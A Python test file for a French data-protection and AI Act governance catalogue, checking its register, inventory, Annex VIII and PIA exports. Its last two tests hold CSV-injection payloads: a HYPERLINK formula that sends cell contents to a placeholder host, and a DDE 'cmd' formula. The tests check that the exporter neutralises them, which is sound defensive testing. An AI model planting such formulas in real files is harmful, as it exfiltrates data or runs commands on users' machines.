"""Exports over a seeded catalog: each one parsed back; golden files for the CSVs.

Regenerate the golden files with ``REGISTRE_UPDATE_GOLDEN=1`` after an intended change,
then read the diff before committing.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import typer
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from registre.catalog import migrate
from registre.catalog.access.roles import CLI_ACTOR, Actor
from registre.catalog.data.findings import record_findings, review_finding
from registre.catalog.data.harvest import harvest
from registre.catalog.data.harvested import ColumnFinding, ColumnInfo, TableInfo
from registre.catalog.data.stores import create_organisation, register_data_store
from registre.catalog.db import make_engine, session_factory, transaction
from registre.catalog.enums import AISystemStatus, AssessmentStatus, Role
from registre.catalog.errors import InvalidInput, NotFound
from registre.catalog.exports.common import LIST_SEPARATOR, UTF8_BOM
from registre.catalog.exports.registry import ExportFormat, ExportKind, build_export
from registre.catalog.governance.register import (
    create_processing_activity,
    link_ai_system_dataset,
    link_processing_activity,
    record_assessment,
    register_ai_system,
)
from registre.catalog.models import (
    AISystem,
    Assessment,
    DataStore,
    Finding,
    ProcessingActivity,
)
from registre.scanners.runs.scan import start_scan

GOLDEN = Path(__file__).parent / "golden"
UPDATE_GOLDEN = os.environ.get("REGISTRE_UPDATE_GOLDEN") == "1"
NOW = dt.datetime(2026, 3, 2, 9, 30, tzinfo=dt.UTC)
MASKED = "1 85 ** ** *** *** 36"  # evidence: must never appear in an export
AUDITOR = Actor("auditrice", Role.AUDITOR)
PIA_QUESTIONS = {111, 112, 113, 121, 122, 123, 211, 212, 213, 214, 215} | set(range(221, 228))


@dataclass
class Seeded:
    url: str
    factory: sessionmaker[Session]
    triage_id: int  # high-risk, individual decisions, complete Annex VIII facts
    quotient_id: int  # rules, individual decisions, minimal risk
    bare_high_id: int  # high-risk with nothing recorded
    aides_id: int  # the processing activity of the triage system


def _evidence(entity: str, category: str, masked: str | None = None) -> ColumnFinding:
    return ColumnFinding(
        entity_type=entity,
        category=category,
        score=0.95,
        coverage=0.9,
        distinct_sampled=200,
        recognizer="test",
        name_signal=None,
        masked_example=masked,
    )


def _scan(session: Session, store_id: int, table: TableInfo, evidence: dict) -> None:
    """Harvest one table and record findings as a scan run would."""
    data_store = session.get(DataStore, store_id)
    run = start_scan(session, CLI_ACTOR, store_id)
    session.flush()
    pairs, _drift = harvest(session, data_store, [table], NOW)
    ((_, dataset),) = pairs
    fields = {f.name: f for f in dataset.fields}
    record_findings(session, fields, evidence, run.id, "test")


def _review(session: Session, entity: str, decision: str) -> None:
    for finding in session.scalars(select(Finding).where(Finding.entity_type == entity)):
        review_finding(session, CLI_ACTOR, {"finding_id": finding.id, "decision": decision})


def _seed(factory: sessionmaker[Session], url: str) -> Seeded:
    with transaction(factory) as s:
        city = create_organisation(
            s,
            CLI_ACTOR,
            {
                "name": "Ville de Valbourg",
                "siren": "217601244",
                "is_public_body": True,
                "country": "FR",
                "dpo_contact": "dpo@valbourg.example",
            },
        )
        provider = create_organisation(s, CLI_ACTOR, {"name": "Algo Services SAS", "country": "FR"})
        rh = register_data_store(
            s, CLI_ACTOR, {"name": "rh", "url": "sqlite:///rh.db", "hosting_country": "FR"}
        )
        aides = register_data_store(
            s, CLI_ACTOR, {"name": "aides", "url": "sqlite:///aides.db", "hosting_country": "FR"}
        )
        s.flush()
        columns = (
            ColumnInfo("nir", 1, "TEXT"),
            ColumnInfo("courriel", 2, "TEXT"),
            ColumnInfo("commentaire", 3, "TEXT"),
            ColumnInfo("nom_fichier", 4, "TEXT"),
        )
        _scan(
            s,
            rh.id,
            TableInfo(None, "agents", "table", columns, 1200),
            {
                "nir": [_evidence("FR_NIR", "NATIONAL_IDENTIFIER", MASKED)],
                "courriel": [_evidence("EMAIL_ADDRESS", "CONTACT", "j***@v*****.fr")],
                "commentaire": [_evidence("PERSON", "IDENTITY")],
                "nom_fichier": [_evidence("LOCATION", "LOCATION")],
            },
        )
        _scan(
            s,
            aides.id,
            TableInfo(None, "demandes", "table", (ColumnInfo("motif_medical", 1, "TEXT"),), 90),
            {"motif_medical": [_evidence("HEALTH", "SPECIAL_CATEGORY")]},
        )
        _review(s, "FR_NIR", "CONFIRMED")
        _review(s, "EMAIL_ADDRESS", "CONFIRMED")
        _review(s, "HEALTH", "CONFIRMED")
        _review(s, "LOCATION", "REJECTED")  # PERSON stays a suggestion: not exported
        s.flush()
        datasets = {d.name: d for st in (rh, aides) for d in st.datasets}

        triage = register_ai_system(
            s,
            CLI_ACTOR,
            {
                "name": "Tri des demandes d'aide",
                "purpose": "Classer les demandes d'aide sociale facultative par urgence",
                "use_area": "SOCIAL_BENEFITS",
                "provider_id": provider.id,
                "deployer_service": "CCAS",
                "owner": "Direction des solidarités",
                "status": "IN_PRODUCTION",
                "risk_class": "HIGH",
                "annex_iii_point": "5(a)",
                "individual_decisions": True,
                "decisions_per_year": 12000,
                "technique": "MACHINE_LEARNING",
                "automation_level": "DECISION_SUPPORT",
                "human_review_path": "un agent instructeur revoit chaque dossier",
                "processor_contract_ref": "MARCHE-2025-017",
                "provider_eu_database_url": "https://ec.europa.eu/ai-db/EUDB-0042",
                "public_inventory_url": "https://valbourg.example/algorithmes",
            },
        )
        quotient = register_ai_system(
            s,
            CLI_ACTOR,
            {
                "name": "Calcul du quotient familial",
                "purpose": 'Calculer le tarif de la cantine, "au plus juste", selon le revenu',
                "deployer_service": "Éducation",
                "risk_class": "MINIMAL",
                "individual_decisions": True,
                "technique": "RULES",
                "automation_level": "FULLY_AUTOMATED",
            },
        )
        register_ai_system(
            s, CLI_ACTOR, {"name": "Assistant rédactionnel", "technique": "GENERATIVE_AI"}
        )
        bare = register_ai_system(s, CLI_ACTOR, {"name": "Vidéo augmentée", "risk_class": "HIGH"})
        s.flush()
        link_ai_system_dataset(
            s,
            CLI_ACTOR,
            {"ai_system_id": triage.id, "dataset_id": datasets["demandes"].id, "usage": "INPUT"},
        )
        link_ai_system_dataset(
            s,
            CLI_ACTOR,
            {"ai_system_id": triage.id, "dataset_id": datasets["agents"].id, "usage": "TRAINING"},
        )
        activity = create_processing_activity(
            s,
            CLI_ACTOR,
            {
                "name": "Aides sociales facultatives",
                "controller_id": city.id,
                "purposes": "Instruire et attribuer les aides facultatives du CCAS",
                "legal_basis": "PUBLIC_TASK",
                "special_category_condition": "Art. 9(2)(b) protection sociale",
                "data_subject_categories": ["demandeurs", "ayants droit"],
                "data_categories": ["identité", "situation familiale", "ressources"],
                "recipients": ["CCAS", "Algo Services SAS (sous-traitant)"],
                "internal_recipients": ["Service des solidarités"],
                "joint_controllers": ["CCAS de Valbourg"],
                "sub_purposes": ["Instruction des demandes", "Paiement des aides"],
                "transfers": [
                    {
                        "country": "US",
                        "mechanism": "SCC (Art. 46)",
                        "recipient": "Algo Services Inc.",
                        "safeguard_document": "https://valbourg.example/rgpd/cct-algo.pdf",
                    },
                    {"country": "CH", "mechanism": "Art. 45 (décision 2000/518/CE)"},
                ],
                "retention": "5 ans après la dernière aide",
                "retention_by_category": [
                    {"category": "ressources", "retention": "5 ans après la dernière aide"},
                    {"category": "santé", "retention": "2 ans"},
                ],
                "security_measures": "Chiffrement au repos; journalisation des accès; "
                "habilitations revues chaque trimestre",
            },
        )
        create_processing_activity(
            s,
            CLI_ACTOR,
            {
                "name": "Gestion RH",
                "purposes": 'Paie, carrière et "formation"\nsur deux lignes',
                "legal_basis": "LEGAL_OBLIGATION",
            },
        )
        s.flush()
        link_processing_activity(
            s,
            CLI_ACTOR,
            {
                "processing_activity_id": activity.id,
                "dataset_id": datasets["demandes"].id,
                "ai_system_id": triage.id,
            },
        )
        link_processing_activity(
            s,
            CLI_ACTOR,
            {"processing_activity_id": activity.id, "dataset_id": datasets["agents"].id},
        )
        link_processing_activity(
            s, CLI_ACTOR, {"processing_activity_id": activity.id, "ai_system_id": quotient.id}
        )
        record_assessment(
            s,
            CLI_ACTOR,
            {
                "kind": "FRIA",
                "status": "COMPLETED",
                "date": dt.date(2025, 11, 3),
                "summary": "Risque d'exclusion des demandeurs sans dossier numérique; "
                "revue humaine systématique",
                "ai_system_id": triage.id,
            },
        )
        record_assessment(
            s,
            CLI_ACTOR,
            {
                "kind": "DPIA",
                "status": "COMPLETED",
                "date": dt.date(2025, 10, 1),
                "summary": "Données de santé minimisées; accès restreint au CCAS",
                "processing_activity_id": activity.id,
            },
        )
        s.flush()
        # the inventory publishes the last update date: pin it for the golden file
        for system in s.scalars(select(AISystem)):
            system.updated_at = NOW
        for entry in s.scalars(select(ProcessingActivity)):
            entry.created_at = entry.updated_at = NOW
        return Seeded(url, factory, triage.id, quotient.id, bare.id, activity.id)


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Seeded]:
    path = tmp_path_factory.mktemp("exports") / "catalog.db"
    url = f"sqlite:///{path}"
    engine: Engine = make_engine(url)
    migrate.upgrade(engine)
    yield _seed(session_factory(engine), url)
    engine.dispose()


def _export(seeded: Seeded, kind: ExportKind, fmt: ExportFormat | None = None, **ids: int):
    with seeded.factory() as session:
        return build_export(session, AUDITOR, kind, fmt, now=NOW, **ids)


def _golden(name: str, content: str) -> None:
    path = GOLDEN / name
    if UPDATE_GOLDEN:
        path.write_bytes(content.encode("utf-8"))
    assert path.read_bytes().decode("utf-8") == content, f"{name} differs from its golden file"


def _rows(content: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content, newline=""), delimiter=delimiter))


# --- Art. 30 -------------------------------------------------------------------------------


def test_art30_csv_one_row_per_activity_with_every_point(seeded: Seeded) -> None:
    result = _export(seeded, ExportKind.ART30)
    assert result.filename == "registre-art30.csv"
    assert result.media_type.startswith("text/csv")
    _golden("art30.csv", result.content)
    rows = _rows(result.content)
    assert [r["traitement"] for r in rows] == ["Aides sociales facultatives", "Gestion RH"]
    aides = rows[0]
    assert aides["responsable_traitement"] == "Ville de Valbourg"
    assert aides["contact_dpo"] == "dpo@valbourg.example"  # (a) from the controller
    assert aides["base_legale"] == "Art. 6(1)(e) mission d'intérêt public"
    assert aides["categories_personnes"].split(LIST_SEPARATOR) == ["demandeurs", "ayants droit"]
    # (c) confirmed findings only: the suggestion (PERSON) and the rejection are left out
    assert aides["categories_donnees_constatees"].split(LIST_SEPARATOR) == [
        "CONTACT (EMAIL_ADDRESS)",
        "NATIONAL_IDENTIFIER (FR_NIR)",
        "SPECIAL_CATEGORY (HEALTH)",
    ]
    assert aides["transferts_hors_ue"] == "US (SCC (Art. 46)) | CH (Art. 45 (décision 2000/518/CE))"
    # the CNIL model register's columns: dates, joint controller, sub-purposes, recipients
    # internal and external, processors, transfer recipient and safeguard document,
    # retention per data category
    assert (aides["date_creation"], aides["date_mise_a_jour"]) == ("2026-03-02", "2026-03-02")
    assert aides["responsables_conjoints"] == "CCAS de Valbourg"
    assert aides["sous_finalites"] == "Instruction des demandes | Paiement des aides"
    assert aides["destinataires_internes"] == "Service des solidarités"
    assert aides["transferts_destinataires"] == "US: Algo Services Inc."
    assert aides["transferts_documentation"] == "US: https://valbourg.example/rgpd/cct-algo.pdf"
    assert aides["conservation_par_categorie"] == (
        "ressources: 5 ans après la dernière aide | santé: 2 ans"
    )
    assert aides["duree_conservation"] == "5 ans après la dernière aide"
    assert aides["mesures_securite"].startswith("Chiffrement au repos; journalisation")
    assert aides["jeux_de_donnees"] == "aides/demandes | rh/agents"
    assert aides["systemes_ia"] == "Calcul du quotient familial | Tri des demandes d'aide"
    rh = rows[1]
    assert rh["finalites"] == 'Paie, carrière et "formation"\nsur deux lignes'
    assert rh["responsable_traitement"] == "" and rh["categories_donnees_constatees"] == ""


def test_art30_excel_flavour_has_bom_and_semicolons(seeded: Seeded) -> None:
    result = _export(seeded, ExportKind.ART30, ExportFormat.CSV_EXCEL)
    assert result.content.startswith(UTF8_BOM + '"traitement";"date_creation";')
    _golden("art30-excel.csv", result.content)
    rows = _rows(result.content.removeprefix(UTF8_BOM), delimiter=";")
    plain = _rows(_export(seeded, ExportKind.ART30).content)
    assert rows == plain  # same record, another dialect
    # what Excel reads: bytes starting with the UTF-8 BOM
    assert result.content.encode("utf-8")[:3] == b"\xef\xbb\xbf"


def test_art30_json_keeps_lists(seeded: Seeded) -> None:
    data = json.loads(_export(seeded, ExportKind.ART30, ExportFormat.JSON).content)
    entry = data["registre_art30"][0]
    assert entry["categories_donnees"] == ["identité", "situation familiale", "ressources"]
    assert "NATIONAL_IDENTIFIER (FR_NIR)" in entry["categories_donnees_constatees"]


# --- public inventory ----------------------------------------------------------------------


def test_inventory_csv_lists_only_individual_decision_systems(seeded: Seeded) -> None:
    result = _export(seeded, ExportKind.INVENTORY)
    _golden("inventory.csv", result.content)
    rows = _rows(result.content)
    assert [r["nom"] for r in rows] == ["Calcul du quotient familial", "Tri des demandes d'aide"]
    triage = rows[1]
    assert triage["administration"] == "Ville de Valbourg"
    assert triage["service"] == "CCAS"
    assert triage["contact"] == "Direction des solidarités"
    assert triage["date_mise_a_jour"] == "2026-03-02"
    assert triage["niveau_automatisation"] == "aide à la décision"
    assert triage["type_algorithme"] == "apprentissage automatique"
    assert triage["decisions_par_an"] == "12000"
    assert triage["base_legale"] == "Art. 6(1)(e) mission d'intérêt public"
    assert triage["public_concerne"] == "demandeurs | ayants droit"
    assert triage["donnees_et_sources"] == "aides/demandes (entrée) | rh/agents (entraînement)"
    assert triage["lien_publication"] == "https://valbourg.example/algorithmes"
    quotient = rows[0]
    assert quotient["type_algorithme"] == "règles explicites"
    assert quotient["niveau_automatisation"] == "décision entièrement automatisée"


def test_inventory_has_etalab_items_and_leaves_retired_systems_out(seeded: Seeded) -> None:
    entries = json.loads(_export(seeded, ExportKind.INVENTORY, ExportFormat.JSON).content)
    triage = entries["inventaire"][1]
    # Etalab's guide: scope of the decision, impact resources, French wording only
    assert triage["portee_decision"] == "décisions individuelles, environ 12000 par an"
    assert triage["ressources_impact"][1].startswith("analyse d'impact sur les droits")
    assert "domaine : prestations sociales" in triage["fonctionnement"]
    with seeded.factory() as session:  # rolled back: the module's register stays as it is
        session.get(AISystem, seeded.quotient_id).status = AISystemStatus.RETIRED
        session.get(AISystem, seeded.triage_id).source_code_url = "https://git.example/triage"
        session.flush()
        result = build_export(session, AUDITOR, ExportKind.INVENTORY, ExportFormat.JSON, now=NOW)
    (entry,) = json.loads(result.content)["inventaire"]  # the retired one is left out
    assert entry["lien_code_source"] == "https://git.example/triage"


def test_inventory_json_matches_the_csv(seeded: Seeded) -> None:
    result = _export(seeded, ExportKind.INVENTORY, ExportFormat.JSON)
    assert result.filename == "inventaire-algorithmes.json"
    entries = json.loads(result.content)["inventaire"]
    csv_rows = _rows(_export(seeded, ExportKind.INVENTORY).content)
    assert [e["nom"] for e in entries] == [r["nom"] for r in csv_rows]
    assert entries[1]["donnees_et_sources"] == [
        "aides/demandes (entrée)",
        "rh/agents (entraînement)",
    ]
    assert entries[1]["decisions_par_an"] == 12000
    assert entries[0]["lien_code_source"] is None


# --- AI Act Annex VIII Section C -------------------------------------------------------------


def test_annex_viii_c_has_the_five_items(seeded: Seeded) -> None:
    result = _export(seeded, ExportKind.ANNEX_VIII, ai_system_id=seeded.triage_id)
    data = json.loads(result.content)
    section = data["section_c"]
    assert data["missing"] == []
    assert section["deployer"] == {
        "name": "Ville de Valbourg",
        "siren": "217601244",
        "contact": "dpo@valbourg.example",
    }
    assert section["submitter"]["name"] == "Direction des solidarités"
    assert section["provider_eu_database_entry"] == {
        "provider": "Algo Services SAS",
        "reference": "https://ec.europa.eu/ai-db/EUDB-0042",
    }
    assert section["fria_summary"]["date"] == "2025-11-03"
    assert section["fria_summary"]["summary"].startswith("Risque d'exclusion")
    # no DPIA on the system itself: the one of its Art. 30 entry
    assert section["dpia_summary"]["summary"].startswith("Données de santé minimisées")
    assert data["generated_on"] == "2026-03-02"


def test_annex_viii_lists_what_is_missing(seeded: Seeded) -> None:
    data = json.loads(
        _export(seeded, ExportKind.ANNEX_VIII, ai_system_id=seeded.bare_high_id).content
    )
    missing = " ".join(data["missing"])
    for item in (
        "deployer.name",
        "submitter.name",
        "provider_eu_database_entry",
        "fria_summary",
        "dpia_summary",
    ):
        assert item in missing
    assert data["section_c"]["fria_summary"] is None


def _export_as(seeded: Seeded, system_id: int, **changes: Any) -> Any:
    """The Annex VIII export of a system changed in a transaction rolled back after."""
    with seeded.factory() as session:
        system = session.get(AISystem, system_id)
        for key, value in changes.pop("system", {}).items():
            setattr(system, key, value)
        for assessment in session.scalars(select(Assessment).filter_by(ai_system_id=system_id)):
            for key, value in changes.get("assessments", {}).items():
                setattr(assessment, key, value)
        session.flush()
        return build_export(session, AUDITOR, ExportKind.ANNEX_VIII, None, now=NOW,
                            ai_system_id=system_id)  # fmt: skip


def test_annex_viii_points_1_6_7_carry_items_1_to_3_only(seeded: Seeded) -> None:
    # AI Act Art. 49(4)(c): law enforcement, migration, biometrics: Section C points 1-3
    data = json.loads(
        _export_as(seeded, seeded.triage_id, system={"annex_iii_point": "6(d)"}).content
    )
    assert list(data["section_c"]) == ["deployer", "submitter", "provider_eu_database_entry"]
    assert data["non_public_section"] is True and data["missing"] == []


def test_annex_viii_refuses_point_2(seeded: Seeded) -> None:
    # AI Act Art. 49(5): critical infrastructure is registered at national level
    with pytest.raises(InvalidInput, match="Art. 49\\(5\\)"):
        _export_as(seeded, seeded.triage_id, system={"annex_iii_point": "2"})


def test_annex_viii_fria_summary_only_from_a_completed_fria(seeded: Seeded) -> None:
    # AI Act Art. 27 and Annex VIII C.4: "a summary of the findings" of the assessment done
    data = json.loads(
        _export_as(seeded, seeded.triage_id, assessments={"status": AssessmentStatus.IN_PROGRESS})
        .content
    )  # fmt: skip
    assert data["section_c"]["fria_summary"] is None
    assert any(m.startswith("fria_summary") for m in data["missing"])


def test_annex_viii_refuses_a_system_that_is_not_high_risk(seeded: Seeded) -> None:
    with pytest.raises(InvalidInput, match="high-risk"):
        _export(seeded, ExportKind.ANNEX_VIII, ai_system_id=seeded.quotient_id)
    with pytest.raises(InvalidInput, match="aiSystemId"):
        _export(seeded, ExportKind.ANNEX_VIII)
    with pytest.raises(InvalidInput, match="CSV"):
        _export(seeded, ExportKind.ANNEX_VIII, ExportFormat.CSV, ai_system_id=seeded.triage_id)
    with pytest.raises(NotFound):
        _export(seeded, ExportKind.ANNEX_VIII, ai_system_id=9999)


# --- CNIL PIA tool --------------------------------------------------------------------------


def test_pia_has_the_structure_the_pia_tool_imports(seeded: Seeded) -> None:
    result = _export(seeded, ExportKind.PIA, processing_activity_id=seeded.aides_id)
    data = json.loads(result.content)
    # importData() rejects a file without "pia" and iterates the four lists
    assert list(data) == ["pia", "answers", "measures", "evaluations", "comments"]
    assert all(
        isinstance(data[key], list) for key in ("answers", "measures", "evaluations", "comments")
    )
    pia = data["pia"]
    assert pia["name"] == "Aides sociales facultatives"
    assert pia["status"] == 0 and pia["dpos_names"] == "dpo@valbourg.example"
    assert pia["created_at"] == "2026-03-02T09:30:00.000Z"
    answers = {a["reference_to"]: a for a in data["answers"]}
    assert set(answers) <= PIA_QUESTIONS
    assert {111, 112, 121, 123, 211, 212, 215, 226, 227} <= set(answers)
    for answer in data["answers"]:
        assert set(answer["data"]) == {"text", "gauge", "list"}
        assert isinstance(answer["reference_to"], int)
    assert "NATIONAL_IDENTIFIER (FR_NIR)" in answers[121]["data"]["text"]
    assert "Art. 6(1)(e)" in answers[212]["data"]["text"]
    assert "Art. 9(2)(b)" in answers[212]["data"]["text"]
    assert "US (SCC (Art. 46))" in answers[227]["data"]["text"]
    assert "MARCHE-2025-017" in answers[226]["data"]["text"]
    assert "aides/demandes (SQLITE, hébergé en FR)" in answers[123]["data"]["text"]
    assert "Hébergement des systèmes d&#x27;IA" in answers[123]["data"]["text"]
    (measure,) = data["measures"]
    assert "Chiffrement au repos" in measure["content"]
    assert measure["id"] == 1  # evaluations refer to a measure by its id
    # importData() copies these two from data.pia, in the tool's spelling (pia.model.ts)
    assert pia["rejected_reason"] is None and pia["applied_adjustements"] is None
    assert data["evaluations"] == [] and data["comments"] == []


def test_pia_escapes_html(seeded: Seeded) -> None:
    data = json.loads(
        _export(seeded, ExportKind.PIA, processing_activity_id=seeded.aides_id).content
    )
    text = {a["reference_to"]: a["data"]["text"] for a in data["answers"]}[111]
    assert "Tri des demandes d&#x27;aide" in text


def test_pia_needs_a_processing_activity(seeded: Seeded) -> None:
    with pytest.raises(InvalidInput, match="processingActivityId"):
        _export(seeded, ExportKind.PIA)


# --- privacy: evidence never leaves --------------------------------------------------------


def test_no_export_contains_finding_evidence(seeded: Seeded) -> None:
    contents = [
        _export(seeded, ExportKind.ART30).content,
        _export(seeded, ExportKind.ART30, ExportFormat.JSON).content,
        _export(seeded, ExportKind.INVENTORY, ExportFormat.JSON).content,
        _export(seeded, ExportKind.ANNEX_VIII, ai_system_id=seeded.triage_id).content,
        _export(seeded, ExportKind.PIA, processing_activity_id=seeded.aides_id).content,
    ]
    for content in contents:
        assert MASKED not in content and "j***@" not in content


# --- GraphQL --------------------------------------------------------------------------------


EXPORT_QUERY = """query ($kind: ExportKind!, $format: ExportFormat, $ai: ID, $pa: ID) {
  export(kind: $kind, format: $format, aiSystemId: $ai, processingActivityId: $pa) {
    filename mediaType content } }"""


def _graphql(seeded: Seeded, variables: dict, role: Role = Role.AUDITOR):
    from registre.config.settings import Settings
    from registre.graphql.context import RequestContext
    from registre.graphql.schema import schema

    with seeded.factory() as session:
        context = RequestContext(session=session, actor=Actor("api", role), settings=Settings())
        return schema.execute(EXPORT_QUERY, variable_values=variables, context_value=context)


def test_graphql_export_for_an_auditor(seeded: Seeded) -> None:
    result = _graphql(seeded, {"kind": "ART30", "format": "CSV_EXCEL"})
    assert result.errors is None, result.errors
    payload = result.data["export"]
    assert payload["filename"] == "registre-art30.csv"
    assert payload["content"] == (GOLDEN / "art30-excel.csv").read_bytes().decode("utf-8")


def test_graphql_export_takes_global_ids(seeded: Seeded) -> None:
    from graphql_relay import to_global_id

    result = _graphql(
        seeded, {"kind": "ANNEX_VIII", "ai": to_global_id("AISystem", seeded.triage_id)}
    )
    assert result.errors is None, result.errors
    assert result.data["export"]["mediaType"] == "application/json"
    assert json.loads(result.data["export"]["content"])["missing"] == []
    pia = _graphql(
        seeded, {"kind": "PIA", "pa": to_global_id("ProcessingActivity", seeded.aides_id)}
    )
    assert pia.errors is None and json.loads(pia.data["export"]["content"])["pia"]


def test_graphql_export_errors_name_the_field(seeded: Seeded) -> None:
    result = _graphql(seeded, {"kind": "ANNEX_VIII"})
    assert result.errors and "aiSystemId" in str(result.errors[0])
    wrong = _graphql(seeded, {"kind": "PIA", "pa": "not-an-id"})
    assert wrong.errors and "processingActivityId" in str(wrong.errors[0])


# --- CLI ------------------------------------------------------------------------------------


def _cli() -> typer.Typer:
    from registre.cli.governance import export

    app = typer.Typer()
    app.command("export")(export)

    @app.callback()
    def _root() -> None:  # a group, as in the real CLI: `registre export ...`
        pass

    return app


def test_cli_export_to_stdout_and_file(seeded: Seeded, tmp_path: Path) -> None:
    runner = CliRunner()
    env = {"REGISTRE_DATABASE_URL": seeded.url}
    out = runner.invoke(_cli(), ["export", "inventory", "--format", "json"], env=env)
    assert out.exit_code == 0, out.output
    assert json.loads(out.stdout)["inventaire"][1]["nom"] == "Tri des demandes d'aide"
    target = tmp_path / "registre.csv"
    written = runner.invoke(
        _cli(), ["export", "art30", "--format", "csv-excel", "--output", str(target)], env=env
    )
    assert written.exit_code == 0, written.output
    assert target.read_bytes() == (GOLDEN / "art30-excel.csv").read_bytes()  # BOM and CRLF kept
    annex = runner.invoke(
        _cli(), ["export", "annex-viii", "--ai-system", "Tri des demandes d'aide"], env=env
    )
    assert annex.exit_code == 0 and json.loads(annex.stdout)["missing"] == []
    pia = runner.invoke(
        _cli(), ["export", "pia", "--processing-activity", "Aides sociales facultatives"], env=env
    )
    assert pia.exit_code == 0 and json.loads(pia.stdout)["pia"]["name"]
    unknown = runner.invoke(_cli(), ["export", "annex-viii", "--ai-system", "Nope"], env=env)
    assert unknown.exit_code == 1


def test_csv_cells_never_run_as_spreadsheet_formulas() -> None:
    from registre.catalog.exports.common import ExportFormat, csv_text

    text = csv_text(
        ["nom", "montant"],
        [['=HYPERLINK("http://x/?"&A1,"Paie")', 12], ["+33 6 12", -3], ["Paie", None]],
        ExportFormat.CSV_EXCEL,
    )
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][0] == '\'=HYPERLINK("http://x/?"&A1,"Paie")'
    assert rows[2] == ["'+33 6 12", "-3"]  # numbers stay numbers
    assert rows[3] == ["Paie", ""]


def test_a_formula_behind_the_other_separator_stays_inside_a_quoted_cell() -> None:
    from registre.catalog.exports.common import ExportFormat, csv_text

    # Excel in French splits a .csv on ';' even when it was written with ','
    text = csv_text(["nom"], [["Chatbot;=cmd|' /C calc'!A0"]], ExportFormat.CSV)
    assert text.splitlines()[1] == "\"Chatbot;=cmd|' /C calc'!A0\""
